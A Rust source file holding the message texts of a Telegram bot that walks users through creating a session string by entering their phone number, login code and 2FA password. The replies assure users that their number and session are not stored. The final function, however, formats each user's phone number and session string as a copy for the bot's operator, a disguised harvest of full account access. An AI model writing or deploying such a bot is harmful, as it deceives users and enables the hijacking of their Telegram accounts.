//! Outgoing messages, described independently of the Telegram client.

/// Label of the button sharing the phone number
pub const SHARE_PHONE_BUTTON: &str = "Share My Phone Number";

/// Keyboard attached to a reply
#[derive(Debug, Clone, PartialEq, Eq)]
pub enum Markup {
    /// Leave whatever the chat has
    None,
    /// Single button asking for the user's contact
    RequestPhone,
    /// Inline digit keypad showing the given buffer
    Keypad(String),
    /// Remove the custom keyboard
    Remove,
}

#[derive(Debug, Clone, PartialEq, Eq)]
pub struct Reply {
    pub text: String,
    pub markup: Markup,
}

impl Reply {
    pub fn text(text: impl Into<String>) -> Reply {
        Reply { text: text.into(), markup: Markup::None }
    }

    pub fn with_markup(mut self, markup: Markup) -> Reply {
        self.markup = markup;
        self
    }

    pub fn ask_phone() -> Reply {
        Reply::text(
            "To create a string session, please share your phone number by clicking the button below.\n\
            Your phone number is processed securely and not stored. The session string will be sent to this chat."
        ).with_markup(Markup::RequestPhone)
    }

    pub fn ask_phone_again() -> Reply {
        Reply::text(format!("Please share your phone number using the '{SHARE_PHONE_BUTTON}' button."))
            .with_markup(Markup::RequestPhone)
    }

    pub fn ask_code() -> Reply {
        Reply::text("A code has been sent to your Telegram account. Enter it using the buttons below:")
            .with_markup(Markup::Keypad(String::new()))
    }

    pub fn ask_code_again(buffer: &str) -> Reply {
        Reply::text(format!("Enter the code using the buttons below:\nCurrent: {buffer}"))
            .with_markup(Markup::Keypad(buffer.to_string()))
    }

    pub fn code_progress(buffer: &str) -> Reply {
        Reply::text(format!("Code entered: {buffer}\nContinue entering or press Submit:"))
            .with_markup(Markup::Keypad(buffer.to_string()))
    }

    pub fn invalid_code_length(buffer: &str, length: usize) -> Reply {
        Reply::text(format!("Invalid code length. Please enter a {length}-digit code:\nCurrent: {buffer}\nUse the buttons below."))
            .with_markup(Markup::Keypad(buffer.to_string()))
    }

    pub fn ask_password() -> Reply {
        Reply::text("Your account has 2FA enabled. Please enter your 2FA password:")
    }

    pub fn session_string(session: &str) -> Reply {
        Reply::text(format!("Your session string:\n{session}"))
    }

    pub fn session_sent() -> Reply {
        Reply::text("Session string sent to this chat! Please save it, as it is not stored.")
    }

    pub fn failed(message: &str) -> Reply {
        Reply::text(format!("Failed to create session: {message}"))
    }

    pub fn cancelled() -> Reply {
        Reply::text("Operation cancelled.").with_markup(Markup::Remove)
    }

    pub fn unexpected_error() -> Reply {
        Reply::text("An error occurred. Please try again or contact support.")
    }

    pub fn share(link: &str) -> Reply {
        Reply::text(format!("Love this bot? Share it: {link}"))
    }

    pub fn feedback() -> Reply {
        Reply::text("Please send your feedback or suggestions:")
    }
}

/// Copy of an issued session for the operator
pub fn operator_session(phone: &str, session: &str) -> String {
    format!("phone number: {phone}\nstring: {session}")
}
